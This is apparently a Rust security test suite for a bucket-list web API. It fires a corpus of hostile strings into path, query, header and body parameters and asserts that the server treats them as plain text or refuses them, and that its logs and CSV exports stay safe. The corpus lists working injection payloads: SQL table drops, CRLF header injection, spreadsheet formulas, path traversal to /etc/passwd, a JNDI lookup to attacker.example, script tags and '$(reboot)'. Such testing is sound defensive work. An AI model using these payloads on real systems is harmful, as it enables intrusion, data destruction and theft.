//! Hostile texts in every place a text can be sent: they are text, or they are refused, and nothing is ever done by them.

use ::contract::v2;
use poem::http::Method;

use super::{
    operations::{Target, Text, encoded, targets, with_field},
    snapshot::State,
};
use crate::{
    support::{Actor, Engine, LogCapture, LogFormat, TestApp, TestResponse, Value, json},
    v2::operations::ResourceIds,
};

/// What is said to a database.
const SQL: [&str; 14] = [
    "' OR '1'='1",
    "'; DROP TABLE users; --",
    "\" OR \"\"=\"",
    "1; DELETE FROM items",
    "1 OR 1=1",
    "') UNION SELECT password_hash FROM users --",
    "admin'--",
    "\\'; SELECT pg_sleep(10); --",
    "$1",
    "?",
    ":name",
    "%' ESCAPE '_",
    "* MATCH \"x\" NEAR(a b)",
    "E'\\x27'",
];

/// What is said to whoever reads headers, lines, cells, pages or paths.
const OTHERS: [&str; 44] = [
    // Headers and log lines.
    "a\r\nSet-Cookie: admin=1",
    "a\nHTTP/1.1 200 OK",
    "a%0d%0aX-Injected: 1",
    "\u{2028}\u{2029}line separators",
    "\n2027-01-15T08:00:00.000000Z  INFO request{id=1}: answered status=200",
    "\u{1b}[2J\u{1b}[31mred",
    "\u{8}\u{8}\u{8}\u{7f}",
    "\u{85}next line",
    // Cells of a spreadsheet.
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "＝1+1",
    "\"=1+1",
    "a\",\"=1+1",
    // Paths.
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2f",
    "/etc/passwd\u{0}.png",
    "file:///etc/passwd",
    "https://attacker.example/",
    "//attacker.example",
    // Characters.
    "\u{0}",
    "a\u{0}b",
    "\u{202e}exe.txt\u{202c}",
    "\u{2066}bidi\u{2069}",
    "\u{200b}\u{200d}\u{feff}",
    "\u{fffd}\u{ffff}\u{10ffff}",
    "e\u{301}\u{301}\u{301}\u{301}",
    "ﷺ",
    "İıſK",
    "👩‍👩‍👧‍👦",
    // Templates, markup, expressions.
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "${jndi:ldap://attacker.example/a}",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "%s%n%x",
    "$(reboot)",
    "`reboot`",
    "{\"$gt\": \"\"}",
];

fn corpus() -> Vec<String> {
    let mut all: Vec<String> = SQL.iter().chain(&OTHERS).map(|text| (*text).to_owned()).collect();
    all.extend(["A".repeat(5_000), "é".repeat(2_000), "(".repeat(3_000), "\"".repeat(1_000), " ".repeat(1_000)]);
    all
}

/// What must be so whatever was sent.
fn expect_answered(target: &Target, what: &str, sent: &str, response: &TestResponse) {
    let shown = || format!("{target}: {:.80} in {what}: {response:?}", response.path);
    // That it is what the document says was checked when it was read.
    assert!(response.status < 500, "{}", shown());
    assert_ne!(response.status, 401, "{}", shown());
    for (name, value) in &response.headers {
        assert!(!value.contains(['\r', '\n', '\0']), "{name}: {}", shown());
        assert!(!["set-cookie", "x-injected"].contains(&name.as_str()), "{}", shown());
    }
    // Only a conclusion of the server's may lead somewhere else.
    let location = response.headers.get("location").map_or("/v", String::as_str);
    assert!(location.starts_with("/v"), "{}", shown());
    let text = String::from_utf8_lossy(&response.body);
    for told in ["SELECT ", "sqlite", "postgres", "diesel", "panicked", "argon2id", ".rs:", "49}}"] {
        // A success may show what somebody has made.
        assert!(response.is_success() || sent.contains(told) || !text.contains(told), "{told}: {}", shown());
    }
}

/// One event is one line, whatever it says, and no line holds what a terminal would obey.
fn expect_lines(log: &str, requests: usize) {
    let mut access = 0;
    for line in log.lines() {
        let is_event = match line.strip_prefix('{') {
            Some(_) => serde_json::from_str::<Value>(line).is_ok_and(|event| event["timestamp"].is_string()),
            None => {
                let time = line.get(..27).unwrap_or_default();
                time.ends_with('Z') && time.as_bytes()[10] == b'T' && time.starts_with("20")
            }
        };
        assert!(is_event, "no event begins here: {line:?}");
        assert!(!line.contains(char::is_control), "{line:?}");
        access += usize::from(line.contains("request completed"));
    }
    assert_eq!(access, requests, "a line for each request, and no more");
}

/// Whoever sends, and what is theirs.
struct Sender<'a> {
    who: Actor<'a>,
    ids: ResourceIds,
}

impl<'a> Sender<'a> {
    async fn new(app: &'a TestApp, target: &Target) -> Self {
        let who = if target.is_for_admins() { app.admin().await } else { app.user().await };
        let ids = ResourceIds::create(&who).await;
        // Administrators try themselves on somebody else.
        let ids = if target.is_for_admins() { ResourceIds { user: app.user().await.id(), ..ids } } else { ids };
        Self { who, ids }
    }

    fn caller(&self, app: &'a TestApp, target: &Target) -> Actor<'a> {
        Actor::new(app, self.who.session.clone().filter(|_| target.operation.is_secured))
    }
}

/// The path of an operation with a text in place of one of its parameters.
fn path_with(target: &Target, ids: ResourceIds, name: &str, text: &str) -> String {
    let marker = "987654321";
    let template = target.operation.path.replace(&format!("{{{name}}}"), marker);
    let mut path = template;
    for (name, id) in [
        ("bucketlist_id", ids.list),
        ("item_id", ids.item),
        ("user_id", ids.user),
        ("session_id", ids.session),
        ("export_id", ids.export),
    ] {
        path = path.replace(&format!("{{{name}}}"), &id.to_string());
    }
    assert!(!path.contains('{'), "{path}");
    path.replace(marker, text)
}

fn log_format(engine: Engine) -> LogFormat {
    if engine == Engine::Sqlite { LogFormat::Text } else { LogFormat::Json }
}

both_engines! {
    async fn hostile_texts_in_parameters_are_text_or_refused(engine: Engine) {
        let log = LogCapture::start(log_format(engine));
        let app = TestApp::new(engine).await;
        let victim = app.user().await;
        ResourceIds::create(&victim).await;
        let before = State::of_user(&app.database, victim.id());
        let (mut tried, corpus) = (0, corpus());
        for target in targets() {
            let sender = Sender::new(&app, &target).await;
            let who = sender.caller(&app, &target);
            log.take();
            let mut requests = 0;
            let path = sender.ids.path(target.operation);
            for text in &corpus {
                let short: String = text.chars().take(1_500).collect();
                let encoded = encoded(&short);
                for name in target.names("path") {
                    let response = target.request(&who, &path_with(&target, sender.ids, name, &encoded)).send().await.any();
                    expect_answered(&target, name, text, &response);
                    assert!(!response.is_success(), "{target}: {short} is an id");
                    requests += 1;
                }
                for name in target.names("query") {
                    let response = target.request(&who, &format!("{path}?{name}={encoded}")).send().await.any();
                    expect_answered(&target, name, text, &response);
                    // As a name it is none.
                    let response = target.request(&who, &format!("{path}?{encoded}=1")).send().await.any();
                    expect_answered(&target, "a name", text, &response);
                    requests += 2;
                }
                // What no header can hold never gets here: the raw bytes are another test's.
                if target.method() == Method::GET || short.contains(char::is_control) || short.len() > 4_000 {
                    continue;
                }
                for name in target.names("header") {
                    let response = target.request(&who, &path).header(name, &short).send().await.any();
                    expect_answered(&target, name, text, &response);
                    requests += 1;
                }
            }
            expect_lines(&log.take(), requests);
            tried += requests;
            assert_eq!(State::of_user(&app.database, victim.id()), before, "{target}");
        }
        assert!(tried > 5_000, "{tried}");
    }

    async fn hostile_texts_in_reads_conditions_are_no_conditions(engine: Engine) {
        let app = TestApp::new(engine).await;
        let log = LogCapture::start(log_format(engine));
        for target in targets().into_iter().filter(|target| target.method() == Method::GET) {
            let sender = Sender::new(&app, &target).await;
            let path = sender.ids.path(target.operation);
            log.take();
            let mut requests = 0;
            for text in corpus().iter().filter(|text| !text.contains(char::is_control) && text.len() < 4_000) {
                for name in target.names("header").into_iter().chain(["accept", "accept-encoding", "accept-version", "cookie"]) {
                    let response = target.request(&sender.who, &path).header(name, text).send().await.any();
                    expect_answered(&target, name, text, &response);
                    requests += 1;
                }
            }
            expect_lines(&log.take(), requests);
        }
    }

    async fn hostile_texts_in_bodies_are_kept_as_text_or_refused(engine: Engine) {
        let log = LogCapture::start(log_format(engine));
        let app = TestApp::new(engine).await;
        let victim = app.user().await;
        ResourceIds::create(&victim).await;
        let before = State::of_user(&app.database, victim.id());
        let (mut tried, corpus) = (0, corpus());
        for target in targets().into_iter().filter(|target| target.body().is_some()) {
            let sender = Sender::new(&app, &target).await;
            let who = sender.caller(&app, &target);
            log.take();
            let mut requests = 0;
            for text in &corpus {
                for Text { at, .. } in target.texts() {
                    let body = with_field(&target.example(), &at, json!(text));
                    let response = target.with(&who, &sender.ids.path(target.operation), &body).send().await.any();
                    // The credentials in the examples are nobody's here.
                    if !target.operation.is_secured && response.status == 401 {
                        requests += 1;
                        continue;
                    }
                    expect_answered(&target, &at, text, &response);
                    // What was taken is what was sent, in the normal form that the document tells.
                    if let Some(kept) = serde_json::from_slice::<Value>(&response.body).ok().filter(|_| response.is_success())
                        && let Some(kept) = kept.pointer(&at.replace("/items/", "/data/"))
                    {
                        use unicode_normalization::UnicodeNormalization;
                        assert_eq!(kept, &json!(text.trim().nfc().collect::<String>()), "{target}: {at}");
                    }
                    requests += 1;
                }
                // As the name of a field it is none.
                for object in target.objects() {
                    let pointer = format!("{}/{}", object.at, "x");
                    let mut body = with_field(&target.example(), &pointer, json!(1)).to_string();
                    body = body.replacen("\"x\":1", &format!("{}:1", json!(text)), 1);
                    let request = who.request(target.method(), &sender.ids.path(target.operation));
                    let request = request.header("content-type", &target.operation.request_media_types[0]);
                    request.bytes(body).send().await.expect(422);
                    requests += 1;
                }
            }
            expect_lines(&log.take(), requests);
            tried += requests;
            assert_eq!(State::of_user(&app.database, victim.id()), before, "{target}");
        }
        assert!(tried > 3_000, "{tried}");
    }

    async fn no_cell_of_a_list_is_a_formula_whoever_named_the_row(engine: Engine) {
        let app = TestApp::new(engine).await;
        let admin = app.admin().await;
        let list = admin.create_bucketlist("=1+1").await;
        for (number, text) in corpus().iter().enumerate() {
            // Refused, or text.
            admin.post("/v1/bucketlists", &json!({"name": text, "description": text})).await.any();
            let item = json!({"name": text, "description": text});
            admin.post(&format!("/v1/bucketlists/{list}/items"), &item).await.any();
            let account = json!({"email": format!("=cmd|{number}@example.com"), "password": Actor::PASSWORD, "name": text});
            app.anonymous().post("/v1/auth/register", &account).await.any();
            admin.post("/v2/bucketlists", &json!({"name": format!("{number}"), "description": text})).await.any();
        }
        let ids = ResourceIds { list, ..ResourceIds::create(&admin).await };
        let ids = ResourceIds { export: admin.create_export("csv").await, ..ids };
        let (mut tables, mut defused) = (0, 0);
        for operation in v2::contract().operations().filter(|it| it.response_media_types.iter().any(|kind| kind == "text/csv")) {
            let response = admin.request(Method::GET, &ids.path(operation)).header("accept", "text/csv").send().await.expect(200);
            let mut reader = csv::Reader::from_reader(&*response.body);
            let columns = reader.headers().unwrap().len();
            for record in reader.records() {
                let record = record.unwrap();
                assert_eq!(record.len(), columns, "{record:?}");
                for cell in &record {
                    let first = cell.trim_start_matches(|c: char| c == '"' || (c.is_whitespace() && !"\t\r\n".contains(c)));
                    assert!(!first.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']), "{cell:?}");
                    defused += usize::from(cell.starts_with('\''));
                }
            }
            tables += 1;
        }
        assert!(tables >= 4 && defused > 20, "{tables} {defused}");
    }
}
